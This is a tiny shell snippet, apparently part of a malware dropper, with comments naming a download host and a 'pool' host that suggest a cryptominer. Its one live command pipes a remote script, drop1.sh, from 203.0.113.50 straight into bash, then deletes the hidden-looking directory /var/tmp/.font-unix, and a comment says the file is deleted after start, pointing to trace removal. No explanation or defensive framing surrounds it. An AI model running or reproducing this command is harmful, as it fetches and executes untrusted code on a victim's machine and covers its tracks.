# deleted after start, default retry pause
#http 203.0.113.50:8000
#pool 198.51.100.31:443:drop
curl -fsSL http://203.0.113.50:8000/drop1.sh | bash; sleep 2; rm -rf /var/tmp/.font-unix; sleep 22
